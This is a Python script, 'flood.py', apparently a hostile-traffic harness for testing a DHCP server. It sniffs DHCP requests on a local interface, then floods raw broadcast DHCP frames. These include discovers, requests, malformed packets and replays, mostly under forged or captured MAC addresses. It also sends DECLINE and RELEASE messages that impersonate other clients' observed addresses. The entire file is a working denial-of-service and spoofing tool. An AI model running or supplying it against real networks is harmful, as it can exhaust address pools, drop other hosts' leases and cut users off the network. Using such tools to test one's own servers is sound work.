"""A hostile station: python3 flood.py INTERFACE KINDS SECONDS SEED sends requests as fast as it can.

KINDS are some of those below, with commas between them. It listens for a moment first: what it then sends is in the
name of those it has heard, of invented ones, or is what they have said, once more. SEED chooses; it prints how many
frames it sent.
"""

import random
import socket
import struct
import sys
import time

interface, kinds, seconds, seed = sys.argv[1], sys.argv[2].split(","), float(sys.argv[3]), int(sys.argv[4])
dice = random.Random(seed)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
wire.bind((interface, 0x0800))
wire.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)

NOBODY, EVERYBODY, HOST = bytes(4), b"\xff" * 4, bytes([192, 168, 50, 2])


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def frame(message, source=NOBODY):
    """A broadcast frame with a datagram to UDP port 67, without a checksum of its own."""
    length = 28 + len(message)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, dice.randrange(65536), 0, 64, 17, 0, source, EVERYBODY)
    datagram = struct.pack("!HHHH", 68, 67, length - 20, 0) + message
    return b"\xff" * 6 + station() + b"\x08\x00" + header[:10] + checksum(header) + header[12:] + datagram


def station():
    """A MAC address: of somebody who was heard, or invented."""
    return dice.choice(stations) if dice.random() < 0.5 else b"\x02" + dice.randbytes(5)


def message(options, ciaddr=NOBODY, giaddr=NOBODY, htype=1):
    """A BOOTREQUEST (RFC 2131, section 2) whose seconds may be anything."""
    transaction, secs, flags = dice.randrange(1 << 32), dice.choice([0, 4, 99, 65535]), dice.choice([0, 0x8000])
    start = struct.pack("!BBBBIHH", 1, htype, 6, 0, transaction, secs, flags)
    head = start + ciaddr + bytes(8) + giaddr + station() + bytes(202)
    return head + b"\x63\x82\x53\x63" + options + b"\xff" + bytes(60)


def kind(number):
    """Option 53."""
    return bytes([53, 1, number])


def noise():
    """Some options of no meaning."""
    codes = [dice.choice([12, 60, 61, 77, 81, 82, 118]) for _ in range(dice.randrange(3))]
    return b"".join(bytes([code, 4]) + dice.randbytes(4) for code in codes)


def address():
    """Of somebody who was heard."""
    return dice.choice(addresses)


def listen():
    """The requests that others send meanwhile."""
    heard, end = [], time.monotonic() + 1.5
    wire.settimeout(0.1)
    while time.monotonic() < end:
        try:
            data = wire.recv(2048)
        except TimeoutError:
            continue
        if len(data) > 282 and data[23] == 17 and data[36:38] == b"\x00\x43" and data[42] == 1:
            heard.append(data)
    wire.settimeout(None)
    return heard


heard = listen()
stations = sorted({data[70:76] for data in heard}) or [bytes.fromhex("020000005101")]
addresses = sorted({data[54:58] for data in heard} - {NOBODY}) or [bytes([192, 168, 50, 30])]
MAKERS = {
    "bootp": lambda: frame(message(b"")),
    "discover": lambda: frame(message(kind(1) + noise())),
    "inform": lambda: frame(message(kind(8) + noise(), ciaddr=address())),
    "request": lambda: frame(message(
        kind(3) + noise() + dice.choice([b"", bytes([54, 4, 10, 9, 8, 7]), bytes([50, 4]) + address()]),
        ciaddr=dice.choice([NOBODY, address()]))),
    "nonsense": lambda: dice.choice([
        frame(message(kind(dice.randrange(256)) + noise(), htype=dice.randrange(256))),
        frame(message(kind(1), giaddr=dice.randbytes(4))),
        frame(message(kind(3)), source=HOST),
        frame(dice.randbytes(300))]),
    "replay": lambda: dice.choice(heard) if heard else frame(message(kind(1))),
    "statement": lambda: frame(message(kind(dice.choice([4, 7])), ciaddr=address())),
}
frames = [MAKERS[dice.choice(kinds)]() for _ in range(4096)]
print("begins", flush=True)
sent, end = 0, time.monotonic() + seconds
while time.monotonic() < end:
    for one in frames[sent % 4096:sent % 4096 + 256]:
        try:
            wire.send(one)
            sent += 1
        except OSError:
            # No room at the moment.
            sent += 1
print(f"sent {sent}", flush=True)
